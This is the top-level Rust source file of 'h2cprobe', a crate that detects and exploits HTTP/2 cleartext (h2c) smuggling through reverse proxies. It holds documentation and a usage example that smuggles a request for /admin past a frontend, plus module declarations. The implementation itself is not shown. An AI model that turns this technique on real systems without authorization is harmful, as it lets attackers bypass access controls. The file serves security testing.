//! h2cprobe detects and exploits HTTP/2 cleartext (h2c) smuggling through
//! reverse proxies.
//!
//! A frontend that honors a client's `Upgrade: h2c` handshake and then
//! blindly tunnels the upgraded stream hands the client a direct HTTP/2
//! channel to its backend. Every further stream on that channel bypasses
//! the frontend's routing, access control and inspection. This crate
//! performs the handshake byte-for-byte on a raw socket, drives HTTP/2 over
//! the same connection, and diffs the smuggled responses against a normal
//! control path to show what the frontend would have blocked.
//!
//! ```no_run
//! use h2cprobe::{ConnConfig, Request, SmuggledConn, Target, UpgradeOptions};
//!
//! # fn main() -> Result<(), h2cprobe::ProbeError> {
//! let base = Request::get(Target::parse("http://victim.example/")?);
//! let mut conn = SmuggledConn::connect(&base, &UpgradeOptions::new(), &ConnConfig::default())?;
//! println!("upgrade response: {}", conn.upgrade_response()?.status);
//!
//! let probe = Request::get(Target::parse("http://victim.example/admin")?);
//! let smuggled = conn.round_trip(&probe)?;
//! println!("smuggled /admin: {}", smuggled.status);
//! # Ok(())
//! # }
//! ```

pub mod control;
pub mod diff;
pub mod dns;
pub mod error;
pub mod h2;
pub mod http1;
pub mod message;
pub mod paths;
pub mod probe;
pub mod session;
pub mod smuggle;
pub mod target;
pub mod tls;

pub use control::ControlClient;
pub use error::ProbeError;
pub use message::{Method, Request, Response};
pub use probe::{ProbeClient, ProbeOptions, ProbeResult};
pub use smuggle::{ConnConfig, SmuggledConn, UpgradeOptions};
pub use target::Target;
